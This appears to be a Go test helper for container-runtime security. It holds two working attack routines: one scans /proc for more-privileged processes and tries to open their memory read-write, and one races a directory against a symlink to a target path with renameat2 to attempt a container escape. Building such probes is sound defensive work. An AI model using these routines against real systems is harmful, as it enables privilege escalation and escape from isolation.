package security

import (
	"fmt"
	"os"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// attacks run as the first process of a container. They write "ready" when they
// are under way and what they have got hold of; they end by being removed.
var attacks = map[string]func(){
	"watch": watchForPrivileges,
	"swap":  swapForASymlink,
}

// watchForPrivileges looks for processes that may do more than itself.
func watchForPrivileges() {
	own := field("/proc/self/status", "CapPrm:")
	allowed := map[string]bool{own: true, "": true}
	fmt.Println("ready")
	for {
		dir, err := os.Open("/proc")
		if err != nil {
			continue
		}
		names, _ := dir.Readdirnames(-1)
		dir.Close()
		for _, pid := range names {
			if pid[0] < '0' || pid[0] > '9' {
				continue
			}
			if caps := field("/proc/"+pid+"/status", "CapPrm:"); !allowed[caps] {
				allowed[caps] = true
				mem := "closed"
				if f, err := os.OpenFile("/proc/"+pid+"/mem", os.O_RDWR, 0); err == nil {
					f.Close()
					mem = "open"
				}
				fmt.Println("got: process", pid, "with capabilities", caps, "and its memory is", mem)
			}
		}
	}
}

func field(file, name string) string {
	text, _ := os.ReadFile(file)
	for line := range strings.Lines(string(text)) {
		if rest, ok := strings.CutPrefix(line, name); ok {
			return strings.TrimSpace(rest)
		}
	}
	return ""
}

// swapForASymlink keeps exchanging the directory /volume/place with a symlink
// to $TARGET.
func swapForASymlink() {
	if err := os.Mkdir("/volume/place", 0o755); err != nil {
		fmt.Println(err)
	}
	if err := os.Symlink(os.Getenv("TARGET"), "/volume/link"); err != nil {
		fmt.Println(err)
	}
	fmt.Println("ready")
	for end := time.Now().Add(time.Minute); time.Now().Before(end); {
		unix.Renameat2(unix.AT_FDCWD, "/volume/place", unix.AT_FDCWD, "/volume/link", unix.RENAME_EXCHANGE)
	}
}
